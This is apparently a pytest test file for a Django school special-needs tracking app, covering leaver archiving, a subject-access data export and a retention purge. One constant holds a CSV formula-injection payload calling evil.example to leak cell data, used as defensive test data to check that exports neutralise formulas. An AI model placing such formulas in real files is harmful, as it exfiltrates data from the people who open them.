"""Data protection (issue 5, part 4): archiving leavers, the subject-access export and the
retention purge."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from assessments import models as am
from interventions import models as im
from pupils.models import Concern, Pupil, PupilProfile, RegisterEntry
from pupils.services_retention import (
    pupil_archive,
    pupil_unarchive,
    retention_cutoff,
    years_before,
)
from sencotrack import versions
from tests import factories as f
from tests.queries import session_queries

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def fill(pupil, *, rows: int = 1, author=None):
    """``rows`` of every kind of record on ``pupil`` (1 to 3: unique keys allow that many)."""
    english = f.SubjectFactory(code="english", name="English")
    maths = f.SubjectFactory(code="maths", name="Maths")
    programme, _ = im.Programme.objects.get_or_create(
        school=pupil.school, name="Paired reading", defaults={"area_of_need": "cognition", "cost_per_session": 12}
    )
    intervention, _ = im.Intervention.objects.get_or_create(
        programme=programme, name="Year 9 readers", defaults={"cost_per_session": 12, "start_date": dt.date(2022, 9, 1)}
    )
    PupilProfile.objects.update_or_create(pupil=pupil, defaults={"strengths": "Kind to others", "updated_by": author})
    for i in range(rows):
        year = 2022 + i
        RegisterEntry.objects.create(
            pupil=pupil, provision="K", primary_need="SPLD", start_date=dt.date(year, 9, 1),
            end_date=dt.date(year, 12, 31) if i < rows - 1 else None,
        )
        Concern.objects.create(pupil=pupil, raised_by=author, raised_on=dt.date(year, 9, 10), reason="Slow reading")
        am.Baseline.objects.create(pupil=pupil, subject=(english, maths, f.SubjectFactory(code="science", name="Science"))[i],
                                   key_stage="KS2", result="4b", academic_year=2021, term="summer")
        am.Assessment.objects.create(pupil=pupil, subject=english, academic_year=year, term="autumn", result="4a", recorded_by=author)
        am.Target.objects.create(pupil=pupil, subject=english, academic_year=year, result="5c", set_by=author)
        am.ReadingTest.objects.create(pupil=pupil, measure="reading", test_name="NGRT", tested_on=dt.date(year, 10, 1),
                                      age_equivalent_months=100 + i, standardised_score=90)
        am.SemhChecklist.objects.create(pupil=pupil, instrument="sdq", completed_on=dt.date(year, 10, 2), academic_year=year,
                                        term="autumn", total=Decimal("14.0"), scores={"emotional": 4}, completed_by=author)
        am.BehaviourRecord.objects.create(pupil=pupil, academic_year=year, term="autumn", points=-3)
        am.QualitativeRating.objects.create(pupil=pupil, subject=english, aspect="engagement", rating=3,
                                            academic_year=year, term="autumn", rated_by=author)
        am.SelfAssessment.objects.create(pupil=pupil, statement="I can read a page on my own", rating=4,
                                         recorded_on=dt.date(year, 10, 3), academic_year=year, term="autumn")
        enrolment = im.Enrolment.objects.create(intervention=intervention, pupil=pupil, start_date=dt.date(year, 9, 15))
        session, _ = im.InterventionSession.objects.get_or_create(intervention=intervention, date=dt.date(year, 9, 16))
        im.Attendance.objects.create(session=session, enrolment=enrolment, attended=True)
        im.Comment.objects.create(pupil=pupil, author=author, observed_on=dt.date(year, 10, 4), objective=HYPERLINK,
                                  activity="Read aloud", outcome="Read a page unaided", subject=english, intervention=intervention)


# --- Archiving ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_archiving_hides_a_pupil_from_the_current_pupils_and_records_today_as_leaving_date(personas):
    pupil = pupil_archive(pupil=personas.pupil, archived_by=personas.senco)
    assert pupil.archived_at is not None and pupil.leaving_date == timezone.localdate()
    assert not Pupil.objects.current().filter(pk=pupil.pk).exists()
    assert Pupil.objects.filter(pk=pupil.pk).exists()  # kept for reporting


@pytest.mark.django_db
def test_archiving_keeps_a_leaving_date_already_recorded(personas):
    personas.pupil.leaving_date = dt.date(2025, 7, 18)
    personas.pupil.save()
    pupil = pupil_archive(pupil=personas.pupil, archived_by=personas.senco, leaving_date=dt.date(2025, 9, 1))
    assert pupil.leaving_date == dt.date(2025, 7, 18)


@pytest.mark.django_db
def test_archiving_twice_or_with_a_leaving_date_before_admission_is_refused(personas):
    personas.pupil.admission_date = dt.date(2023, 9, 4)
    personas.pupil.save()
    with pytest.raises(ValidationError):
        pupil_archive(pupil=personas.pupil, leaving_date=dt.date(2023, 1, 1))
    assert Pupil.objects.get(pk=personas.pupil.pk).archived_at is None  # nothing saved
    pupil_archive(pupil=personas.pupil)
    with pytest.raises(ValidationError, match="already archived"):
        pupil_archive(pupil=personas.pupil)


@pytest.mark.django_db
def test_putting_a_pupil_back_on_roll_clears_the_archive_and_the_leaving_date(personas):
    pupil_archive(pupil=personas.pupil)
    pupil = pupil_unarchive(pupil=personas.pupil)
    assert pupil.archived_at is None and pupil.leaving_date is None
    assert Pupil.objects.current().filter(pk=pupil.pk).exists()
    with pytest.raises(ValidationError, match="not archived"):
        pupil_unarchive(pupil=pupil)


@pytest.mark.django_db
def test_the_senco_archives_a_pupil_from_the_confirmation_page(personas, client):
    client.force_login(personas.senco)
    url = reverse("pupils:archive", args=[personas.pupil.public_id])
    page = client.get(url)
    assert page.status_code == 200 and "Archive Amy Smith as a leaver" in page.content.decode()
    response = client.post(url, {"leaving_date": "2025-07-18"}, follow=True)
    assert response.redirect_chain[-1][0] == reverse("pupils:detail", args=[personas.pupil.public_id])
    assert "Amy Smith is archived" in response.content.decode()
    personas.pupil.refresh_from_db()
    assert personas.pupil.archived_at is not None and personas.pupil.leaving_date == dt.date(2025, 7, 18)
    # Off the daily pages: the pupil list and the register no longer show her
    assert "Smith" not in client.get(reverse("pupils:list")).content.decode()
    # ...and back on roll
    response = client.post(reverse("pupils:unarchive", args=[personas.pupil.public_id]), follow=True)
    assert "Amy Smith is back on roll and on the daily pages again." in response.content.decode()
    personas.pupil.refresh_from_db()
    assert personas.pupil.archived_at is None


@pytest.mark.django_db
def test_a_leaving_date_that_is_not_a_date_is_refused_on_the_form_and_nothing_is_saved(personas, client):
    client.force_login(personas.senco)
    response = client.post(reverse("pupils:archive", args=[personas.pupil.public_id]), {"leaving_date": "31/02/2025"})
    assert response.status_code == 200 and "Enter a valid date" in response.content.decode()
    personas.pupil.refresh_from_db()
    assert personas.pupil.archived_at is None


@pytest.mark.django_db
@pytest.mark.parametrize(("who", "status"), [("teacher", 403), ("ta", 403), ("governor", 403), ("data_manager", 403), ("outsider", 404)])
@pytest.mark.parametrize("name", ["pupils:archive", "pupils:unarchive", "pupils:subject_access"])
def test_only_the_senco_of_the_school_may_archive_or_export_a_pupil(personas, client, who, status, name):
    pupil_archive(pupil=personas.other_pupil)  # so unarchive has someone to act on
    target = personas.other_pupil if name == "pupils:unarchive" else personas.pupil
    client.force_login(getattr(personas, who))
    url = reverse(name, args=[target.public_id])
    # Staff of the school who are not the SENCo are refused (403); another school's SENCo is told
    # there is no such pupil (404), so ids leak nothing.
    assert client.get(url).status_code == status
    if name != "pupils:subject_access":
        assert client.post(url).status_code == status
    target.refresh_from_db()
    assert (target.archived_at is None) == (target == personas.pupil)  # unchanged


# --- Subject access -----------------------------------------------------------------------------


def open_zip(response) -> zipfile.ZipFile:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(response.content))


@pytest.mark.django_db
def test_the_subject_access_export_holds_everything_on_the_pupil(personas, client):
    personas.senco.first_name, personas.senco.last_name = "Alice", "Senco"
    personas.senco.save()
    fill(personas.pupil, rows=2, author=personas.senco)
    fill(personas.other_pupil, rows=1, author=personas.teacher)  # someone else's: must not appear
    client.force_login(personas.senco)
    response = client.get(reverse("pupils:subject_access", args=[personas.pupil.public_id]))
    assert response["Content-Disposition"].startswith(f'attachment; filename="subject-access-{personas.pupil.public_id}-')
    assert personas.pupil.upn not in response["Content-Disposition"] and "Smith" not in response["Content-Disposition"]
    assert response["Cache-Control"] == "private, no-store"
    archive = open_zip(response)
    data = json.loads(archive.read("subject-access.json"))

    assert data["pupil"]["upn"] == personas.pupil.upn and data["pupil"]["surname"] == "Smith"
    assert data["pupil"]["school"] == "Oak Academy" and data["pupil"]["gender_label"] == "Female"
    counts = {name: len(value) for name, value in data.items() if isinstance(value, list)}
    assert counts | {
        "register_entries": 2, "concerns": 2, "teaching_groups": 1, "baselines": 2, "assessments": 2, "targets": 2,
        "reading_tests": 2, "semh_checklists": 2, "behaviour_records": 2, "qualitative_ratings": 2,
        "self_assessments": 2, "enrolments": 2, "attendance": 2, "comments": 2,
    } == counts  # and any table added since (an access log, ...) as a list too
    assert data["profile"]["strengths"] == "Kind to others" and data["profile"]["updated_by"] == "Alice Senco"
    comment = data["comments"][0]
    assert comment["author"] == "Alice Senco" and comment["objective"] == HYPERLINK  # as stored, in the JSON
    assert comment["subject"] == "English" and comment["intervention"] == "Year 9 readers"
    assert data["assessments"][0]["recorded_by"] == "Alice Senco" and data["assessments"][0]["subject"] == "English"
    assert data["register_entries"][0]["provision_label"] == "K: SEN support"
    assert data["semh_checklists"][0]["total"] == "14" and data["semh_checklists"][0]["scores"] == {"emotional": 4}
    assert {k: data["attendance"][0][k] for k in ("date", "attended", "intervention", "programme")} == {
        "date": "2022-09-16", "attended": "attended", "intervention": "Year 9 readers", "programme": "Paired reading"}
    assert data["teaching_groups"][0]["name"] == "9E1"
    assert data["export"]["generated_by"] == "Alice Senco"
    client.get(reverse("pupils:subject_access", args=[personas.pupil.public_id]))  # a second time
    again = json.loads(open_zip(client.get(reverse("pupils:subject_access", args=[personas.pupil.public_id]))).read("subject-access.json"))
    assert [(e["user"], e["action"], e["what"]) for e in again["access_log"]][-2:] == [
        ("Alice Senco", "exported", "subject-access export")
    ] * 2  # the earlier exports, by name

    names = set(archive.namelist())
    assert {"subject-access.json", "README.txt", "csv/pupil.csv", "csv/comments.csv", "csv/attendance.csv", "csv/profile.csv"} <= names
    # A CSV for the pupil, the profile and each list
    assert {n for n in names if n.count("/") == 1} == {f"csv/{name}.csv" for name in ["pupil", "profile", *counts]}


@pytest.mark.django_db
def test_the_csv_files_of_the_export_neutralise_formulas(personas, client):
    fill(personas.pupil, rows=1, author=personas.senco)
    client.force_login(personas.senco)
    archive = open_zip(client.get(reverse("pupils:subject_access", args=[personas.pupil.public_id])))
    rows = list(csv.DictReader(io.StringIO(archive.read("csv/comments.csv").decode())))
    assert rows[0]["objective"] == "'" + HYPERLINK
    pupil_row = next(csv.DictReader(io.StringIO(archive.read("csv/pupil.csv").decode())))
    assert pupil_row["upn"] == personas.pupil.upn and pupil_row["pupil_premium"] == "no"


@pytest.mark.django_db
def test_each_export_is_written_in_the_access_log(personas, client):
    from pupils.models import AccessEvent

    client.force_login(personas.senco)
    client.get(reverse("pupils:subject_access", args=[personas.pupil.public_id]))
    event = AccessEvent.objects.get(pupil=personas.pupil)
    assert (event.user, event.action, event.what) == (personas.senco, "exported", "subject-access export")


@pytest.mark.django_db
def test_an_archived_pupils_records_can_still_be_exported(personas, client):
    pupil_archive(pupil=personas.pupil)
    client.force_login(personas.senco)
    data = json.loads(open_zip(client.get(reverse("pupils:subject_access", args=[personas.pupil.public_id]))).read("subject-access.json"))
    assert data["pupil"]["archived_at"] is not None


@pytest.mark.django_db
def test_the_export_takes_the_same_number_of_queries_however_much_is_held(personas, client, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(personas.senco)
    fill(personas.pupil, rows=1, author=personas.senco)
    fill(personas.other_pupil, rows=3, author=personas.senco)
    counts = []
    for pupil in (personas.pupil, personas.other_pupil):
        versions.bump(versions.ALL)  # each measured with nothing cached
        with CaptureQueriesContext(connection) as queries:
            assert client.get(reverse("pupils:subject_access", args=[pupil.public_id])).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]
    # session (from Redis in production mode) + user + membership (3), pupil (1), its school (1),
    # one per table (16 today), one per section of another app (the stored report rows: 1), one per
    # audit-history table, and the access-log entry (1)
    from pupils.hooks import subject_access_sections
    from pupils.subject_access import _history, export_tables

    from pupils.selectors_audit import tracked_models

    session = session_queries()
    sections = len(subject_access_sections())
    # a record of a record (a plan's outcomes) is read only when the pupil has the parent (a plan):
    # Django asks nothing for ``id__in=[]``; the links of earlier versions likewise
    found = {h: rows for _, h, rows in _history(personas.pupil)}
    histories = sum(1 for model, _, parent in tracked_models() if parent is None or found[parent.history.model])
    links = sum(1 for model, h, _ in _history(personas.pupil) if h is not model.history.model and found[model.history.model])
    assert counts[0] == 5 + session + len(export_tables()) + sections + histories + links


# --- archive_leavers ------------------------------------------------------------------------------


def run(command: str, *args) -> str:
    out = io.StringIO()
    call_command(command, *args, stdout=out)
    return out.getvalue()


@pytest.mark.django_db
def test_archive_leavers_lists_in_a_dry_run_and_archives_with_apply(personas):
    # On 1 Sep 2025: left 31 Aug (archived), leaving today (still on roll), no date (on roll)
    personas.pupil.leaving_date = dt.date(2025, 8, 31)
    personas.pupil.save()
    today_leaver = f.PupilFactory(school=personas.school, leaving_date=dt.date(2025, 9, 1))
    dry = run("archive_leavers", "--today", "2025-09-01")
    assert "dry run" in dry and "oak: 1 pupil to archive" in dry and str(personas.pupil.public_id) in dry
    assert personas.pupil.upn not in dry and "Smith" not in dry
    assert Pupil.objects.current().count() == 3  # nothing changed
    applied = run("archive_leavers", "--today", "2025-09-01", "--apply")
    assert "Archived 1 pupil." in applied
    assert set(Pupil.objects.current().values_list("pk", flat=True)) == {personas.other_pupil.pk, today_leaver.pk}
    assert "No pupil on roll" in run("archive_leavers", "--today", "2025-09-01", "--apply")  # idempotent


@pytest.mark.django_db
def test_archive_leavers_refuses_a_bad_date_or_school_clearly(personas):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="is not a date"):
        run("archive_leavers", "--today", "01/09/2025")
    with pytest.raises(CommandError, match="No school has code 'ash'"):
        run("archive_leavers", "--school", "ash")


# --- retention --------------------------------------------------------------------------------------


def test_a_year_before_29_february_is_28_february():
    assert years_before(dt.date(2028, 2, 29), 25) == dt.date(2003, 2, 28)
    assert years_before(dt.date(2026, 3, 1), 25) == dt.date(2001, 3, 1)


@pytest.mark.django_db
def test_the_retention_cutoff_keeps_records_for_whole_years_after_leaving():
    school = f.SchoolFactory(code="oak", retention_years=25)
    # Left 20 July 2000: kept until 20 July 2025, purged from 21 July 2025.
    assert not dt.date(2000, 7, 20) < retention_cutoff(school, dt.date(2025, 7, 20))  # cutoff 20/07/2000
    assert dt.date(2000, 7, 20) < retention_cutoff(school, dt.date(2025, 7, 21))  # cutoff 21/07/2000


@pytest.fixture
def leavers(personas):
    """On 1 Mar 2026. Oak keeps 25 years (cut-off 1 Mar 2001), Elm 7 years (cut-off 1 Mar 2019)."""
    oak, elm = personas.school, f.SchoolFactory(code="elm")
    oak.retention_years, elm.retention_years = 25, 7
    oak.save()
    elm.save()
    past = f.PupilFactory(school=oak, surname="Past", leaving_date=dt.date(2001, 2, 28))  # 1 day past: purged
    fill(past, rows=2, author=personas.senco)
    on_cutoff = f.PupilFactory(school=oak, surname="Cutoff", leaving_date=dt.date(2001, 3, 1))  # kept until today
    no_date = f.PupilFactory(school=oak, surname="Nodate", archived_at=timezone.now())  # never purged
    elm_past = f.PupilFactory(school=elm, surname="Elmpast", leaving_date=dt.date(2019, 2, 28))  # purged
    elm_recent = f.PupilFactory(school=elm, surname="Elmrecent", leaving_date=dt.date(2019, 3, 1))  # kept
    return {"past": past, "on_cutoff": on_cutoff, "no_date": no_date, "elm_past": elm_past, "elm_recent": elm_recent}


@pytest.mark.django_db
def test_retention_dry_run_lists_pupils_past_the_period_by_id_and_deletes_nothing(leavers):
    before = {model: model.objects.count() for model in (Pupil, am.Assessment, im.Comment, im.Attendance)}
    out = run("retention", "--today", "2026-03-01")
    assert "dry run: nothing is deleted" in out
    assert "oak: keeps records 25 years after leaving; 1 pupil left before 2001-03-01" in out
    assert "elm: keeps records 7 years after leaving; 1 pupil left before 2019-03-01" in out
    assert str(leavers["past"].public_id) in out and str(leavers["elm_past"].public_id) in out
    for kept in ("on_cutoff", "no_date", "elm_recent"):
        assert str(leavers[kept].public_id) not in out
    for pupil in leavers.values():
        assert pupil.upn not in out and pupil.surname not in out  # no UPN or name anywhere
    # Would delete: 2 pupils; the filled pupil's 2 of each record (hand-counted in fill())
    assert "Would delete:" in out and "2 pupils (pupils.Pupil)" in out and "2 comments (interventions.Comment)" in out
    assert "2 attendances (interventions.Attendance)" in out
    assert {model: model.objects.count() for model in before} == before


@pytest.mark.django_db
def test_retention_apply_purges_them_and_everything_on_them_and_keeps_the_rest(leavers, personas):
    out = run("retention", "--today", "2026-03-01", "--apply")
    assert "Purged 2 pupils past the retention period." in out and "Deleted:" in out
    remaining = set(Pupil.objects.values_list("surname", flat=True))
    assert remaining == {"Smith", "Jones", "Cutoff", "Nodate", "Elmrecent"}
    past = leavers["past"].pk
    for model in (RegisterEntry, Concern, PupilProfile, am.Baseline, am.Assessment, am.Target, am.ReadingTest,
                  am.SemhChecklist, am.BehaviourRecord, am.QualitativeRating, am.SelfAssessment, im.Enrolment, im.Comment):
        assert not model.objects.filter(pupil_id=past).exists(), model
    assert not im.Attendance.objects.exists()  # only the purged pupil attended anything
    # Shared records stay: the programme, its intervention and its sessions, the staff
    assert im.Intervention.objects.filter(name="Year 9 readers").exists() and im.InterventionSession.objects.count() == 2
    assert personas.senco.__class__.objects.filter(pk=personas.senco.pk).exists()
    assert "Purged" not in run("retention", "--today", "2026-03-01", "--apply")  # nothing more to purge


@pytest.mark.django_db
def test_retention_can_be_limited_to_one_school(leavers):
    out = run("retention", "--today", "2026-03-01", "--school", "elm", "--apply")
    assert "Purged 1 pupil past" in out and "oak:" not in out
    assert Pupil.objects.filter(pk=leavers["past"].pk).exists()
    assert not Pupil.objects.filter(pk=leavers["elm_past"].pk).exists()


@pytest.mark.django_db
def test_retention_purges_the_audit_history_of_what_it_deletes_too(leavers):
    from django.apps import apps

    from pupils.services_retention import history_model

    if history_model(Pupil) is None:
        pytest.skip("the models keep no audit history (django-simple-history) in this build")
    past = leavers["past"]
    comment = im.Comment.objects.filter(pupil=past).first()
    comment.outcome = "Changed later"
    comment.save()
    im.Comment.objects.filter(pupil=past).exclude(pk=comment.pk).delete()  # history outlives the row
    dry = run("retention", "--today", "2026-03-01")
    assert "historical" in dry.lower()  # the dry run counts the history it would delete
    run("retention", "--today", "2026-03-01", "--apply")
    purged = {leavers["past"].pk, leavers["elm_past"].pk}
    for model in apps.get_models():
        history = history_model(model)
        if history is None:
            continue
        names = {f.attname for f in history._meta.concrete_fields}
        if model is Pupil:
            assert not history.objects.filter(id__in=purged).exists()
        elif "pupil_id" in names:
            assert not history.objects.filter(pupil_id__in=purged).exists(), history
    assert history_model(Pupil).objects.filter(id=leavers["on_cutoff"].pk).exists()  # the kept keep theirs


@pytest.mark.django_db
def test_the_export_includes_the_audit_history_when_the_models_keep_one(personas, client):
    from pupils.services_retention import history_model

    if history_model(Pupil) is None:
        pytest.skip("the models keep no audit history (django-simple-history) in this build")
    personas.pupil.surname = "Smith-Jones"
    personas.pupil.save()
    client.force_login(personas.senco)
    data = json.loads(open_zip(client.get(reverse("pupils:subject_access", args=[personas.pupil.public_id]))).read("subject-access.json"))
    surnames = [row["surname"] for row in data["audit_history"]["pupil"]]
    assert surnames[-2:] == ["Smith", "Smith-Jones"]


# --- Subject access: everything held (issue 10, part 7) ---------------------------------------------


def export_of(client, senco, pupil) -> tuple[dict, zipfile.ZipFile]:
    client.force_login(senco)
    archive = open_zip(client.get(reverse("pupils:subject_access", args=[pupil.public_id])))
    return json.loads(archive.read("subject-access.json")), archive


@pytest.mark.django_db
def test_the_export_holds_the_attendance_history_attended_and_missed_with_dates(personas, client):
    from interventions.services_ui import session_log_save as session_log

    intervention = f.InterventionFactory(programme__school=personas.school, programme__name="Lexia",
                                         name="Year 9 phonics", start_date=dt.date(2024, 9, 2))
    amy = f.EnrolmentFactory(intervention=intervention, pupil=personas.pupil, start_date=dt.date(2024, 9, 2))
    ben = f.EnrolmentFactory(intervention=intervention, pupil=personas.other_pupil, start_date=dt.date(2024, 9, 2))
    today = dt.date(2024, 10, 1)
    for day, came in ((dt.date(2024, 9, 9), {amy.pk, ben.pk}), (dt.date(2024, 9, 16), {ben.pk}),
                      (dt.date(2024, 9, 23), {amy.pk})):
        session_log(intervention=intervention, date=day, delivered=True, note=f"Week of {day:%d %b}",
                    enrolments=[amy, ben], attended=came, logged_by=personas.teacher, today=today)
    data, archive = export_of(client, personas.senco, personas.pupil)
    teacher = personas.teacher.get_full_name()
    assert [(r["date"], r["attended"], r["intervention"], r["programme"], r["session_note"], r["logged_by"])
            for r in data["attendance"]] == [
        ("2024-09-09", "attended", "Year 9 phonics", "Lexia", "Week of 09 Sep", teacher),
        ("2024-09-16", "missed", "Year 9 phonics", "Lexia", "Week of 16 Sep", teacher),
        ("2024-09-23", "attended", "Year 9 phonics", "Lexia", "Week of 23 Sep", teacher),
    ]
    rows = list(csv.DictReader(io.StringIO(archive.read("csv/attendance.csv").decode())))
    assert [(r["date"], r["attended"]) for r in rows] == [("2024-09-09", "attended"), ("2024-09-16", "missed"),
                                                          ("2024-09-23", "attended")]
    # Its history too: each attendance as it was logged, found through the enrolment
    assert len(data["audit_history"]["attendance"]) == 3
    assert data["export"]["sources"]["audit_history/attendance"] == "interventions.HistoricalAttendance"


@pytest.mark.django_db
def test_the_export_holds_the_stored_report_rows_about_the_pupil(personas, client, settings, tmp_path):
    from reports import services
    from reports.models import ReportKind, ReportRun
    from tests.integration.report_school import build_report_school

    settings.MEDIA_ROOT = tmp_path
    school, pupils = build_report_school()  # the personas' school: Oak Academy
    params = {"academic_year": 2025, "term": "summer"}
    runs = [ReportRun.objects.create(school=school, kind=kind, parameters=params)
            for kind in (ReportKind.TERMLY_PACK, ReportKind.EXPECTED_PROGRESS, ReportKind.VALUE_ADDED)]
    for run in runs:
        services.report_run_execute(run.pk)
    pack, progress, _ = [ReportRun.objects.get(pk=run.pk) for run in runs]

    data, archive = export_of(client, personas.senco, pupils["A"])
    # A: English 4b -> 5c (expected progress, in the pack and alone) and the reading intervention (pack)
    got = [(r["report"], r["run"], r["run_id"], r["academic_year"], r["term"]) for r in data["report_rows"]]
    # A's rows in the pack (a jsonb result keeps no order of its sections) and in the single report
    assert sorted(got) == sorted([
        ("Expected progress", "Termly report pack", str(pack.public_id), "2025/26", "Summer"),
        ("Standardised-score progress", "Termly report pack", str(pack.public_id), "2025/26", "Summer"),
        ("Intervention impact (ratio gains and every measure)", "Termly report pack", str(pack.public_id), "2025/26",
         "Summer"),
        ("Expected progress", "Expected progress", str(progress.public_id), "2025/26", "Summer"),
    ])
    first = next(r for r in data["report_rows"] if (r["report"], r["run"]) == ("Expected progress", "Termly report pack"))
    assert (first["upn"], first["subject"], first["baseline_result"], first["current_result"], first["status"]) == (
        pupils["A"].upn, "English", "4b", "5c", "below")
    assert first["built_at"].startswith(timezone.localtime(pack.finished_at).strftime("%Y-%m-%dT%H:%M"))
    impact = next(r for r in data["report_rows"] if r["report"].startswith("Intervention impact"))
    assert impact["ratio_gain"] == 1.93
    assert data["export"]["sources"]["report_rows"] == "reports.ReportRun"
    rows = list(csv.DictReader(io.StringIO(archive.read("csv/report_rows.csv").decode())))
    assert len(rows) == 4 and {r["upn"] for r in rows} == {pupils["A"].upn}
    # Someone in no report has none; nobody else's rows are in A's
    assert export_of(client, personas.senco, personas.other_pupil)[0]["report_rows"] == []
    assert {r["upn"] for r in data["report_rows"]} == {pupils["A"].upn}


def models_with_a_path_to_pupil() -> set[str]:
    """Every model, audit-history tables included, whose rows reach a pupil through a chain of
    foreign keys (or a many-to-many field to Pupil itself), worked out here from the registry
    independently of the export's own code."""
    from django.apps import apps
    from django.db import models

    reach, found, grew = {Pupil}, set(), True
    while grew:
        grew = False
        for model in apps.get_models():
            if model in reach or model._meta.label in found:
                continue
            fks = [f for f in model._meta.concrete_fields if isinstance(f, models.ForeignKey) and f.related_model in reach]
            m2m = [f for f in model._meta.many_to_many if f.related_model is Pupil]
            if fks or m2m:
                found.add(model._meta.label)
                if fks:
                    reach.add(model)
                grew = True
    return found


@pytest.mark.django_db
def test_every_model_with_a_path_to_the_pupil_is_in_the_export(personas, client):
    """A model added later that holds rows about a pupil must be in the export (or this fails)."""
    fill(personas.pupil, rows=1, author=personas.senco)
    data, archive = export_of(client, personas.senco, personas.pupil)
    sources = data["export"]["sources"]
    expected = models_with_a_path_to_pupil()
    # Sanity: the registry walk sees the records of every app, and their audit history
    assert {"pupils.RegisterEntry", "assessments.Assessment", "interventions.Attendance", "pupils.TeachingGroup",
            "pupils.AccessEvent", "interventions.HistoricalAttendance", "assessments.HistoricalAssessment"} <= expected
    assert expected - set(sources.values()) == set()
    # ...and every table named in the export has its CSV and a line in the README
    readme = archive.read("README.txt").decode()
    for name in sources:
        assert f"csv/{name}.csv" in archive.namelist(), name
        assert f"- csv/{name}.csv: " in readme, name


@pytest.mark.django_db
def test_the_readme_explains_each_file_in_plain_words(personas, client):
    data, archive = export_of(client, personas.senco, personas.pupil)
    readme = archive.read("README.txt").decode()
    assert "Everything sencotrack holds on Amy Smith at Oak Academy" in readme
    assert "- csv/attendance.csv: attendance history: every intervention session logged for the pupil" in readme
    assert "- csv/report_rows.csv: every row about the pupil in the reports the school has stored" in readme
    assert "- csv/access_log.csv: who viewed the pupil's record, downloaded it or exported it, and when." in readme
    assert "- csv/audit_history/pupil.csv: every earlier version of the rows in pupil.csv" in readme
